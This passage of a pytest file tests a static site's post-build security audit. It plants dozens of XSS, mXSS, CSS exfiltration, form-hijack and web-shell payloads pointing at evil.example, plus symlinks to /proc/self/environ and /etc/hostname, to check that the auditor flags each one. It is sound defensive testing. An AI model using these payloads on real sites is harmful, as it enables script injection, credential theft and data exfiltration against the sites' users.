"""The post-build audit (pravo/audit.py, issue #18 item 2).

Every injection class of the security review (71 hostile contributions) is planted here as it
reaches the built HTML — Markdown probes are rendered with the site's own Markdown extensions —
and the audit must name the output file. Clean pages must pass. The parser shortcuts of the
audit are compared with tinyhtml5's own parser on random markup and on the real site.
"""
from __future__ import annotations

import io
import random
import time
from collections import Counter
from pathlib import Path

import markdown
import pytest
from tinyhtml5.parser import HTMLParser

from pravo import audit  # noqa: E402
from pravo.audit import (  # noqa: E402
    DEFAULT_POLICY,
    Finding,
    Policy,
    audit_css,
    audit_html,
    audit_site,
    audit_svg,
    format_findings,
)

from sitebuild import ROOT, load_config

OUTPUT = "en/about/contributing/index.html"
HEAD = ('<meta charset="utf-8">'
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src \'self\'">'
        '<meta name="viewport" content="width=device-width,initial-scale=1">'
        '<meta name="referrer" content="no-referrer">'
        '<title>How to contribute - Pravo</title>'
        '<link rel="stylesheet" href="../../../assets/css/pravo.css?v=1">'
        '<link rel="icon" href="../../../assets/images/favicon.png">'
        '<link rel="canonical" href="https://pravo.example.org/en/about/contributing/">'
        '<link rel="alternate" href="../../../about/contributing/" hreflang="ru">')
SCRIPTS = '<script src="../../../assets/js/quick-exit.js?v=ddefcfd3b9"></script>'


def page(body: str = "", head: str = "", title: str = "How to contribute - Pravo") -> str:
    """A built page as the site's templates lay it out, with `body` as the page's content."""
    return ("<!doctype html>\n<html lang=\"en\" class=\"no-js\">\n<head>\n"
            + HEAD.replace("How to contribute - Pravo", title) + head + "\n</head>\n<body dir=\"ltr\">\n"
            + "<header class=\"md-header\"><a href=\"../../\" title=\"Pravo\" class=\"md-header__button\">Pravo</a></header>\n"
            + "<article class=\"md-content__inner md-typeset\">\n<div data-search-body>\n"
            + body + "\n</div>\n</article>\n" + SCRIPTS + "\n</body>\n</html>\n")


def _markdown_extensions():
    extensions, configs = [], {}
    for item in load_config()["markdown_extensions"]:
        if isinstance(item, dict):
            (name, config), = item.items()
            extensions.append(name)
            configs[name] = config or {}
        else:
            extensions.append(item)
    return extensions, configs


EXTENSIONS, EXTENSION_CONFIGS = _markdown_extensions()


def rendered(markdown_text: str) -> str:
    """Markdown as the site's extensions render it (mkdocs.yml markdown_extensions)."""
    return markdown.markdown(markdown_text, extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS)


def findings_in(html_text: str, output: str = OUTPUT, policy: Policy = DEFAULT_POLICY) -> list[Finding]:
    return audit_html(html_text, output, policy)


def assert_found(findings: list[Finding], *words: str, output: str = OUTPUT) -> Finding:
    """One finding names the output file and contains every word; returns it."""
    for finding in findings:
        if finding.output == output and all(word.lower() in finding.what.lower() for word in words):
            assert finding.fix, finding
            return finding
    raise AssertionError(f"no finding with {words} in {output}; got:\n{format_findings(findings) or '(none)'}")


# ---------------------------------------------------------------------------------------------
# The review's probes, as they reach the built page
# ---------------------------------------------------------------------------------------------

# (probe, Markdown or raw HTML a volunteer writes in a page, words of the expected finding)
MARKDOWN_PROBES = [
    ("script", '<script>alert("PWN-script")</script>', ["inline <script>"]),
    ("uppercase-script", '<SCRIPT>alert("PWN-upper")</SCRIPT>\n\n<ScRiPt >alert(1)</sCrIpT>', ["inline <script>"]),
    ("iframe", '<iframe src="https://evil.example/PWN-iframe"></iframe>', ["<iframe>"]),
    ("img-onerror", '<img src="x.png" onerror="alert(\'PWN-onerror\')">', ["event handler onerror"]),
    ("a-javascript", '<a href="javascript:alert(\'PWN-jsurl\')">click</a>', ["javascript: link"]),
    ("md-javascript", '[click](javascript:alert("PWN-mdjs"))', ["javascript: link"]),
    ("svg-script", '<svg><script>alert("PWN-svgscript")</script></svg>', ["<script> inside an SVG"]),
    ("object", '<object data="https://evil.example/PWN-object.swf"></object>', ["<object>"]),
    ("embed", '<embed src="https://evil.example/PWN-embed.swf">', ["<embed>"]),
    ("form-action", '<form action="https://evil.example/PWN-form" method="post"><input name="q"><button>Send</button></form>',
     ["form that sends", "evil.example"]),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/PWN-refresh">', ["refresh"]),
    ("style-import", '<style>@import url(https://evil.example/PWN-import.css);</style>', ["<style>"]),
    ("md-img-http", '![pixel](http://evil.example/PWN-mdimg.gif)', ["image", "another site"]),
    ("md-data-url", '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgiUFdOLWRhdGEiKTwvc2NyaXB0Pg==)', ["data: link"]),
    ("md-vbscript", '[open](vbscript:msgbox("PWN-vbs"))', ["vbscript: link"]),
    ("entity-javascript", '<a href="jav&#x61;script:alert(\'PWN-entity\')">click</a>', ["javascript: link"]),
    ("md-entity-javascript", '[click](jav&#x61;script:alert("PWN-mdentity"))', ["javascript: link"]),
    ("angle-javascript", '[click](<javascript:alert("PWN-angle")>)', ["javascript: link"]),
    ("ref-javascript", '[click][evil]\n\n[evil]: javascript:alert("PWN-refjs")', ["javascript: link"]),
    ("ref-img-external", '![pixel][px]\n\n[px]: https://evil.example/PWN-refimg.gif', ["image", "another site"]),
    ("attr-list-onclick", 'Click this paragraph.\n{: onclick="alert(\'PWN-attrclick\')" }', ["event handler onclick", "<p>"]),
    ("attr-list-heading", '## Heading { onmouseover="alert(\'PWN-attrhead\')" }', ["event handler onmouseover", "<h2>"]),
    ("attr-list-src", '![logo](../../assets/images/neutral.svg){ src="https://evil.example/PWN-attrsrc.gif" }',
     ["image", "another site", "PWN-attrsrc"]),
    ("multiline-onerror", '<img src="x.png"\n     onerror="alert(\'PWN-mlonerror\')">', ["event handler onerror"]),
    ("multiline-jsurl", '<a\nhref="javascript:alert(\'PWN-mljs\')">click</a>', ["javascript: link"]),
    ("multiline-extimg", '<img alt="x"\n src="https://evil.example/PWN-mlimg.gif">', ["image", "another site"]),
    ("backtick-hide-script", '\\`<script>alert("PWN-backtick")</script>\\`', ["inline <script>", "PWN-backtick"]),
    ("backslash-img", '<img src="\\\\evil.example\\PWN-bslash.gif">', ["image", "another site"]),
    ("entity-img", '<img src="https:&#x2F;&#x2F;evil.example/PWN-entimg.gif">', ["image", "another site"]),
    ("table-background", '<table background="https://evil.example/PWN-bg.gif"><tr><td>x</td></tr></table>', ["background="]),
    ("a-ping", '<a href="../index.md" ping="https://evil.example/PWN-ping">home</a>', ["ping="]),
    ("svg-use-external", '<svg><use href="https://evil.example/PWN-use.svg#a"></use></svg>', ["<use>", "another site"]),
    ("target-blank", '<a href="https://example.org/PWN-blank" target="_blank">out</a>', ["new window", "noopener"]),
    ("noscript-meta", '<noscript><p title="</noscript><img src=x onerror=alert(\'PWN-mxss\')>"></p></noscript>',
     ["event handler onerror"]),
    ("a-download-data", '<a href="data:application/octet-stream;base64,UFdOLWRvd25sb2Fk" download="safety.apk">PWN-download</a>',
     ["data: link"]),
    ("css-attr-external", '<span style="background:url(https://evil.example/PWN-cssattr.gif)">x</span>',
     ["url()", "another site"]),
    # data/laws/*.yml and data/contacts.yml: a source url that closes the Markdown link (H1)
    ("law-url-breakout", '[Extra report](https://news.example/article/1)<script>alert("PWN-lawbreak")</script>)',
     ["inline <script>", "PWN-lawbreak"]),
    ("law-path-breakout", '[code](https://github.com/a/b/blob/38d3e9c/data/pdfs/x.pdf)<script>alert("PWN-lawpath")</script>)',
     ["inline <script>", "PWN-lawpath"]),
    ("contacts-url-breakout", '[AFEW](https://afew.org/eecaaids2018/sex-workers-kg-eng/)<script>alert("PWN-contact")</script>)',
     ["inline <script>", "PWN-contact"]),
]


@pytest.mark.parametrize("probe, text, words", MARKDOWN_PROBES, ids=[p[0] for p in MARKDOWN_PROBES])
def test_every_injection_class_of_the_review_is_found(probe, text, words):
    findings = findings_in(page(rendered(text)))
    finding = assert_found(findings, *words)
    assert finding.line and finding.line > 1, finding
    assert finding.source == "docs/en/about/contributing.md or docs/en/about/contributing/index.md", finding


@pytest.mark.parametrize("html_text, words", [
    # raw HTML as a browser receives it, where Markdown would have changed it
    ('<a href="java\tscript:alert(\'PWN-tab\')">click</a>', ["javascript: link"]),
    ('<a href="java\nscript:alert(1)">click</a>', ["javascript: link"]),
    ('<a href=" \x01JaVaScRiPt:alert(1)">click</a>', ["javascript: link"]),
    ('<a href="javascript&colon;alert(1)">click</a>', ["javascript: link"]),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', ["javascript: link"]),
    ('<a href="VBScript:msgbox(1)">x</a>', ["vbscript: link"]),
    ('<a href="file:///etc/passwd">x</a>', ["scheme file:"]),
    ('<IMG SRC="//evil.example/x.gif">', ["image", "another site"]),
    ('<img src="/\\evil.example/x.gif">', ["image", "another site"]),
    ('<img src="x.png" srcset="a.png 1x, https://evil.example/b.png 2x">', ["srcset", "another site"]),
    ('<img src="x.png" ONERROR="alert(1)">', ["event handler onerror"]),
    ('<p\nclass="x"\nOnMouseOver="alert(1)">x</p>', ["event handler onmouseover"]),
    ('<base href="https://evil.example/">', ["<base>"]),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', ["another site"]),
    ('<link rel="prefetch" href="https://evil.example/">', ["prefetch"]),
    ('<meta name="referrer" content="unsafe-url">', ["referrer"]),
    ('<meta charset="utf-7">', ["charset"]),
    ('<video poster="https://evil.example/p.jpg"></video>', ["<video>"]),
    ('<div poster="https://evil.example/p.jpg">x</div>', ["poster="]),
    # mXSS through raw text: <title> and <noscript> end at their end tag even inside a quoted value
    ('<title><p title="</title><img src=x onerror=alert(1)>"></title>', ["event handler onerror"]),
    ('<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>', ["event handler onerror"]),
    # the DOMPurify mXSS: parsed once, as here, the <img> stays text inside a <style>
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ["<style>"]),
    ('<math><mtext><table><mglyph><svg><mtext><style><img src=x onerror=alert(1)>', ["event handler onerror"]),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["javascript: link"]),
    ('<svg><image href="https://evil.example/x.png"/></svg>', ["another site"]),
    ('<svg><foreignObject><p>x</p></foreignObject></svg>', ["foreignObject"]),
    ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', ["animation"]),
    ('<svg onload="alert(1)"><path d="M0 0"/></svg>', ["event handler onload"]),
    ('<div style="width:1px">x</div>', ["style="]),
    ('<span style="background:u\\72l(//evil.example/x)">x</span>', ["url()", "another site"]),
    ('<script src="https://evil.example/x.js"></script>', ["another site"]),
    ('<script src="../../../assets/images/evil.js"></script>', ["assets/images/evil.js", "not one of"]),
    ('<script src="../../../assets/js/quick-exit.js">alert(1)</script>', ["code between its tags"]),
    ('<script type="module">alert(1)</script>', ["inline <script>"]),
    ('<script type="importmap">{"imports": {}}</script>', ["importmap"]),
    ('<script type="text/x-template"><img onerror=alert(1)></script>', ["kind of script"]),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', ["<iframe>"]),
    ('<input type="image" src="https://evil.example/x.png">', ["src="]),
    ('<button formaction="https://evil.example/">x</button>', ["formaction="]),
    ('<form method="post"><input></form>', ["method="]),
    ('<a href="https://evil.example/" rel="opener">x</a>', ["opener"]),
    ('<a href="https://evil.example/app.apk" download>x</a>', ["download link to another site"]),
    ('<a href="blob:https://pravo.example.org/1234">x</a>', ["scheme blob:"]),
    ('<template><script>alert(1)</script></template>', ["<template>"]),
    ('<img src="x.png" data-x="1" lowsrc="https://evil.example/x">', ["lowsrc="]),
    ('<object data="x"><param name="movie" value="https://evil.example/x.swf"></object>', ["<object>"]),
])
def test_browser_quirks_and_other_tags_are_read_as_a_browser_does(html_text, words):
    assert_found(findings_in(page(html_text)), *words)


def test_a_frameset_document_is_found():
    html_text = '<!doctype html><html><head><title>x</title></head><frameset><frame src="https://evil.example/"></frameset></html>'
    assert_found(findings_in(html_text), "<frameset>")


def test_title_break_out_is_found_in_the_head_and_in_the_nav():
    """C2: a front-matter title rendered unescaped into <title> and into the nav of every page."""
    title = '</title><script>alert("PWN-title")</script>'
    html_text = page(f'<nav><a href="./">{title}</a></nav>', title=title)
    found = [f for f in findings_in(html_text) if "inline <script>" in f.what]
    assert len(found) == 2, format_findings(found)


def test_title_markup_puts_a_handler_in_the_nav():
    title = 'Как помочь <b>PWN-bold</b><img src=x onerror=alert("PWN-titleimg")>'
    assert_found(findings_in(page(f'<nav><a href="./">{title}</a></nav>', title=title)), "event handler onerror")


def test_description_break_out_is_found():
    head = '<meta name="description" content=""><script>alert("PWN-desc")</script>">'
    assert_found(findings_in(page(head=head)), "inline <script>", "PWN-desc")


def test_a_quote_in_the_description_is_broken_html():
    """What today's site has on en/trafficking/harms/ (its description quotes "rescues")."""
    head = '<meta name="description" content="Raids, "rescues", extortion and deportation.">'
    found = [f for f in findings_in(page(head=head)) if "broken HTML" in f.what]
    assert len(found) == 1, format_findings(found)   # one finding, not one per word
    assert "rescues" in found[0].what


def test_i18n_string_with_a_script_is_found():
    """H2: a UI string (i18n/*.yml) rendered on every page, here the quick-exit label."""
    body = '<a class="pravo-exit" href="https://www.google.com/search?q=weather" rel="noreferrer">Quick exit<script>alert("PWN-i18n")</script></a>'
    assert_found(findings_in(page(body)), "inline <script>", "PWN-i18n")


def test_an_allowed_inline_script_passes_by_its_hash():
    body = "<script>window.ok = 1</script>"
    found = findings_in(page(body))
    digest = assert_found(found, "inline <script>").what.split("sha256-")[1].rstrip(")")
    policy = Policy(inline_script_hashes=frozenset({"sha256-" + digest}))
    assert findings_in(page(body), policy=policy) == []


def test_meta_refresh_to_another_page_of_the_site_is_a_redirect_page():
    """pravo/pipeline/redirects.py writes these; to another site it is a finding."""
    same = ('<meta http-equiv="refresh" content="0; url=../new/">')
    assert findings_in(page(head=same)) == []
    assert_found(findings_in(page(head='<meta http-equiv="refresh" content="0; URL=\'//evil.example/\'">')), "refresh")


def test_a_redirect_page_lacks_only_the_security_policy():
    """The page pravo/pipeline/redirects.py writes today: the refresh is fine, the missing
    <meta> policy is not (security review M1: give redirect pages the meta CSP)."""
    redirect = ('<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n'
                '<meta name="referrer" content="no-referrer">\n<meta http-equiv="refresh" content="0; url=../../raid/protocol/">\n'
                '<link rel="canonical" href="https://pravo.example.org/en/raid/protocol/">\n<title>This page has moved</title>\n'
                '</head>\n<body>\n<p><a href="../../raid/protocol/">This page has moved</a></p>\n</body>\n</html>\n')
    findings = findings_in(redirect, "en/raid/old/index.html")
    assert [f.what.split(":")[0] for f in findings] == ["the page has no Content-Security-Policy <meta>"], findings


def test_a_page_without_the_security_policy_meta_is_found():
    html_text = page().replace('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src \'self\'">', "")
    assert_found(findings_in(html_text), "no Content-Security-Policy")


def test_an_unsafe_inline_policy_is_found():
    html_text = page().replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
    assert_found(findings_in(html_text), "unsafe-inline")


def test_a_giant_page_is_found():
    assert_found(findings_in(page("<p>" + "x" * 1_100_000 + "</p>")), "MB")


def test_inert_probes_stay_quiet():
    """What the review found inert must not make noise (escaped or harmless)."""
    for text in [
        '<div>\n```\n<script>alert("PWN-fence")</script>\n```\n</div>',           # fence-in-html-script
        "Searchword zqxjk &lt;img src=x onerror=alert(\"PWN-pf\")&gt; zqxjk",      # search-text-xss
        '# Title <img src="x.png" alt="PWN-h1">',                                   # h1-markup (local image)
        "&lt;script&gt;alert(\"PWN-titleent\")&lt;/script&gt;",                     # title-entity-script
    ]:
        assert findings_in(page(rendered(text))) == [], text


# ---------------------------------------------------------------------------------------------
# A clean page
# ---------------------------------------------------------------------------------------------

CLEAN = rendered("""
# How to contribute

Read the [sources](../sources/index.md), write to [us](mailto:team@example.org) or call
[+996 000 000](tel:+996000000). The law is on [the official site](https://cbd.minjust.gov.kg/112306/edition/1/ru)
and an older copy is [here](http://www.ungift.org/doc/knowledgehub/resource-centre/GIFT_Palermo.pdf).

![a card](../../assets/images/neutral.svg){ width="32" }

| Column | Right |
|:-------|------:|
| a      | b     |

Term[^1]

[^1]: A footnote.

??? note "More"
    Hidden text with a [link](#how-to-contribute).

*[HTML]: Hyper Text
""")


def test_a_clean_page_has_no_finding():
    body = CLEAN + """
<form class="pravo-incident__form" autocomplete="off" novalidate>
  <label for="when">When</label><textarea id="when" rows="3" spellcheck="false"></textarea>
  <button type="button" data-action="make">Make</button>
</form>
<form class="md-search__form" name="pravo-search" action="#"><input type="text" aria-label="Search"></form>
<p><a href="../../../cards/kg-en.pdf" download>Pocket card</a>
<a href="https://example.org/" target="_blank" rel="noopener">new window</a></p>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="">
<script id="__config" type="application/json">{"base": "../../.."}</script>
<script src="../../../assets/js/self-check.js?v=48adf75450" defer></script>
"""
    findings = findings_in(page(body))
    assert findings == [], format_findings(findings)


def test_script_paths_and_existence():
    body = '<script src="../../../search/en/meta.js"></script><script src="/assets/js/menu.js"></script>'
    assert findings_in(page(body)) == []
    files = frozenset({"assets/js/quick-exit.js", "assets/js/menu.js"})
    found = audit_html(page(body), OUTPUT, site_files=files)
    assert_found(found, "search/en/meta.js", "not in the site")


# ---------------------------------------------------------------------------------------------
# Other files: SVG, CSS, types, places, links
# ---------------------------------------------------------------------------------------------

SVG_OK = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><rect x="5" y="3" width="22" height="26" rx="3" fill="#9e9e9e"/></svg>'


@pytest.mark.parametrize("svg, words", [
    ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert("PWN-svgfile")</script>'
     '<image href="https://evil.example/PWN-svgext.gif"/></svg>', ["<script> inside an SVG"]),
    ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert("PWN-svgfile")</script>'
     '<image href="https://evil.example/PWN-svgext.gif"/></svg>', ["another site"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
     ["foreignObject"]),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/s.svg#a"/></svg>',
     ["<use>", "another site"]),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', ["event handler onload"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script></svg>',
     ["HTML or MathML"]),
    ('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
     ["processing instruction"]),
    ('<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
     ["DOCTYPE"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
     ["@import", "another site"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
     ["another site"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
     ["javascript: link"]),
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect', ["not well-formed"]),
])
def test_svg_files(svg, words):
    assert_found(audit_svg(svg, "assets/images/evil.svg"), *words, output="assets/images/evil.svg")


def test_a_plain_svg_file_passes():
    assert audit_svg(SVG_OK, "assets/images/neutral.svg") == []


@pytest.mark.parametrize("css, words", [
    ("a{background:url(https://evil.example/x.gif)}", ["url()", "another site"]),
    ("@import 'https://evil.example/x.css';", ["@import", "another site"]),
    ("@import url(//evil.example/x.css);", ["@import", "another site"]),
    ("a{background:u\\72l(https://evil.example/x.gif)}", ["url()", "another site"]),
    ('a{content:"/*"} b{background:url(https://evil.example/x)} c{content:"*/"}', ["url()", "another site"]),
    ("a{width:expression(alert(1))}", ["expression()"]),
    ("a{-moz-binding:url(x.xml#b)}", ["-moz-binding"]),
    ("a{background:url('javascript:alert(1)')}", ["javascript:"]),
    ('a{background:image-set("https://evil.example/a.png" 1x)}', ["another site"]),
])
def test_css_files(css, words):
    assert_found(audit_css(css, "assets/css/pravo.css"), *words, output="assets/css/pravo.css")


def test_css_data_images_and_local_files_pass():
    css = ('a{background:url("data:image/svg+xml;charset=utf-8,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")}'
           "b{background:url(../images/x.png)} /* url(https://in-a-comment) */")
    assert audit_css(css, "assets/css/pravo.css") == []


def test_format_findings():
    finding = Finding("en/help/index.html", 57, "an inline <script>", "remove it", "docs/en/help.md:12")
    assert format_findings([finding]) == \
        "site/en/help/index.html:57 (from docs/en/help.md:12): an inline <script> — remove it"
    assert format_findings([Finding("x.exe", None, "w", "f", None)], site="") == "x.exe: w — f"


def test_urls_are_read_as_the_whatwg_parser_reads_them():
    parts = audit.url_parts
    assert parts(" \x00JAVA\tSCRIPT:alert(1)\n") == ("javascript", "alert(1)")
    assert parts("\\\\evil.example\\x") == (None, "//evil.example/x")
    assert parts("HTTPS:\\\\evil.example") == ("https", "//evil.example")
    assert parts("java script:x")[0] is None          # a space: not a scheme, a relative path
    assert parts("../a/b.png") == (None, "../a/b.png")


# ---------------------------------------------------------------------------------------------
# A whole site folder
# ---------------------------------------------------------------------------------------------

def write(root: Path, relative: str, data) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")
    return path


def small_site(root: Path) -> Path:
    """A clean site in the real site's shape."""
    site = root / "site"
    for relative in ("index.html", "en/index.html", "en/about/contributing/index.html", "404.html"):
        depth = relative.count("/")
        body = page().replace("../../../", "../" * depth)
        write(site, relative, body)
    write(site, "assets/js/quick-exit.js", "// quick exit\n")
    write(site, "assets/css/pravo.css", "a{color:red}\n")
    write(site, "assets/images/neutral.svg", SVG_OK)
    write(site, "assets/images/favicon.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 16)
    write(site, "cards/kg-en.pdf", b"%PDF-1.7\n")
    write(site, "search/en/meta.js", 'pravoSearch("en","meta","",{"buckets":1,"key":3});\n')
    write(site, "search/en/w/0.js", 'pravoSearch("en","w",0,{"contribut":[0,0,50]});\n')
    write(site, "search/en/p/0.js", 'pravoSearch("en","p",0,{"s":[["","",""]],"t":"Contributing","u":"en/about/contributing/"});\n')
    write(site, "sw.js", "self.addEventListener('fetch', () => {})\n")
    write(site, "offline/en.json", '{"lang": "en", "files": ["en/", "en/about/contributing/", "assets/css/pravo.css"]}')
    write(site, "sitemap.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
          "<url><loc>https://pravo.example.org/</loc></url></urlset>")
    write(site, "feed.xml", '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
          '<title>Pravo</title><link href="https://pravo.example.org/"/></feed>')
    write(site, "_headers", "/*\n  Content-Security-Policy: default-src 'none'\n")
    return site


def test_a_clean_site_has_no_finding(tmp_path):
    site = small_site(tmp_path)
    findings = audit_site(site)
    assert findings == [], format_findings(findings)


@pytest.mark.parametrize("relative, data, words", [
    ("assets/evil.html", '<!doctype html><title>x</title><script>alert("PWN-htmlfile")</script>', ["place"]),
    ("assets/evil.html", '<!doctype html><title>x</title><script>alert("PWN-htmlfile")</script>', ["inline <script>"]),
    ("assets/note/index.html", "<p>md-in-assets</p>", ["place"]),
    ("evil/index.html", '<script>alert("PWN-outside")</script>', ["inline <script>"]),
    ("assets/images/evil.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', ["<script> inside an SVG"]),
    ("assets/js/evil.js", 'fetch("https://evil.example/PWN-jsfile")', ["no page loads"]),
    ("assets/images/evil.js", "alert(1)", ["outside the site's script folders"]),
    ("assets/leak.txt", "hostname\n", [".txt file"]),
    ("assets/env.txt", "PRAVO_PROBE_SECRET=hunter2\n", [".txt file"]),
    ("assets/x.exe", b"MZ\x90\x00", [".exe file"]),
    ("shell.php", "<?php system($_GET['c']); ?>", [".php file"]),
    ("assets/images/pixel.png", "<script>alert(1)</script>", ["not a .png"]),
    ("assets/stylesheets/x.css", "a{background:url(https://evil.example/x)}", ["another site"]),
    ("assets/images/x.css", "a{}", ["place"]),
    ("README", "text", ["without a known extension"]),
    ("en/about/cp1251/index.html", "Текст".encode("cp1251"), ["not UTF-8"]),
    ("feed.xml", '<feed xmlns="http://www.w3.org/2005/Atom"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></feed>',
     ["<script> from http://www.w3.org/1999/xhtml"]),
    ("sitemap.xml", '<?xml-stylesheet href="https://evil.example/s.xsl"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>',
     ["processing instruction"]),
])
def test_a_planted_file_is_found(tmp_path, relative, data, words):
    site = small_site(tmp_path)
    write(site, relative, data)
    assert_found(audit_site(site), *words, output=relative)


def test_a_symlink_in_the_output_is_found_and_never_followed(tmp_path):
    site = small_site(tmp_path)
    (site / "assets" / "env.txt").symlink_to("/proc/self/environ")
    (site / "assets" / "images" / "leak.png").symlink_to("/etc/hostname")
    (site / "assets" / "tree").symlink_to(tmp_path)      # a folder: the audit must not walk into it
    findings = audit_site(site)
    for relative in ("assets/env.txt", "assets/images/leak.png", "assets/tree"):
        assert_found(findings, "symbolic link", output=relative)
    assert not any(f.output.startswith("assets/tree/") for f in findings)


def test_a_file_copied_from_a_symlink_in_docs_is_found(tmp_path):
    """MkDocs follows a link in docs/ and writes a plain file: with the project, the audit sees the link."""
    site = small_site(tmp_path)
    project = tmp_path / "project"
    write(project, "docs/assets/images/real.png", b"\x89PNG\r\n\x1a\n")
    (project / "docs" / "assets" / "images" / "favicon.png").symlink_to("real.png")
    assert_found(audit_site(site, project=project), "symbolic link", output="assets/images/favicon.png")
    # a page whose Markdown is a link to a file outside docs/, and a folder that is a link
    write(project, "README.md", "# Pravo")
    (project / "docs" / "en" / "about").mkdir(parents=True)
    (project / "docs" / "en" / "about" / "contributing.md").symlink_to("../../../README.md")
    write(tmp_path, "elsewhere/cards/kg-en.pdf", b"%PDF-1.7")
    (project / "docs" / "cards").symlink_to(tmp_path / "elsewhere" / "cards")
    findings = audit_site(site, project=project)
    assert_found(findings, "symbolic link", "docs/en/about/contributing.md ->", output="en/about/contributing/index.html")
    assert_found(findings, "symbolic link", "docs/cards ->", output="cards/kg-en.pdf")


def test_the_offline_list_must_name_files_of_the_site(tmp_path):
    site = small_site(tmp_path)
    write(site, "offline/en.json", '{"lang": "en", "files": ["en/", "assets/env.txt", "https://evil.example/x"]}')
    write(site, "assets/env.txt", "SECRET=1")
    findings = audit_site(site)
    assert_found(findings, "offline list", "another site", output="offline/en.json")
    assert_found(findings, "offline list", "env.txt", output="offline/en.json")


def test_a_zip_with_a_leaked_file_is_found(tmp_path):
    import zipfile
    site = small_site(tmp_path)
    with zipfile.ZipFile(site / "offline.zip", "w") as archive:
        archive.writestr("pravo/index.html", "<p>x</p>")
        archive.writestr("pravo/assets/env.txt", "SECRET=1")
    assert_found(audit_site(site), "archive", "env.txt", output="offline.zip")


# ---------------------------------------------------------------------------------------------
# Tracing a finding to its source
# ---------------------------------------------------------------------------------------------

def test_findings_are_traced_to_the_source_line(tmp_path):
    project = tmp_path / "project"
    write(project, "docs/en/about/contributing.md",
          "---\ntitle: How to contribute\n---\n\n# How\n\nText.\n\n<img src=\"x.png\"\n     onerror=\"alert('PWN-mlonerror')\">\n")
    write(project, "data/contacts.yml",
          "contacts:\n  - name: AFEW\n    url: 'https://afew.org/x/)<script>alert(\"PWN-contact\")</script>'\n")
    write(project, "i18n/en.yml", 'exit.label: "Quick exit<script>alert(\\"PWN-i18n\\")</script>"\n')
    write(project, "docs/en/about/sources.md", '[x](jav&#x61;script:alert("PWN-mdentity"))\n')
    body = (rendered("<img src=\"x.png\"\n     onerror=\"alert('PWN-mlonerror')\">")
            + rendered('[AFEW](https://afew.org/x/)<script>alert("PWN-contact")</script>)')
            + '<a href="jav&#x61;script:alert(&quot;PWN-mdentity&quot;)">x</a>')
    html_text = page(body).replace("</header>", '<a class="exit">Quick exit<script>alert("PWN-i18n")</script></a></header>')
    findings = audit_html(html_text, OUTPUT, project=project)
    assert assert_found(findings, "onerror").source == "docs/en/about/contributing.md:10"
    assert assert_found(findings, "inline <script>", "PWN-contact").source == "data/contacts.yml:3"
    assert assert_found(findings, "inline <script>", "PWN-i18n").source == "i18n/en.yml:1"
    assert assert_found(findings, "javascript: link").source == "docs/en/about/sources.md:1"


def test_page_sources_without_the_project():
    assert audit.page_sources("en/help/index.html") == ["docs/en/help.md", "docs/en/help/index.md"]
    assert audit.page_sources("help/index.html") == ["docs/ru/help.md", "docs/ru/help/index.md"]
    assert audit.page_sources("index.html") == ["docs/ru/index.md"]
    assert audit.page_sources("en/404.html") == ["overrides/404.html"]
    assert audit.page_sources("assets/images/evil.svg") == ["docs/assets/images/evil.svg"]


# ---------------------------------------------------------------------------------------------
# The parser: the audit's shortcuts build the same tree as tinyhtml5
# ---------------------------------------------------------------------------------------------

def _shape(root):
    return [(e.tag, sorted((e.attrib or {}).items()) if isinstance(e.attrib, dict) else None, e.text, e.tail)
            for e in root.iter()]


PIECES = ["<a", "<A", "<p", "<div", "<b>", "</b>", "<i>", "</i>", "<table>", "<tr>", "<td>", "</table>", "<script>",
          "</script>", "<title>", "</title>", "<textarea>", "</textarea>", "<style>", "</style>", "<noscript>",
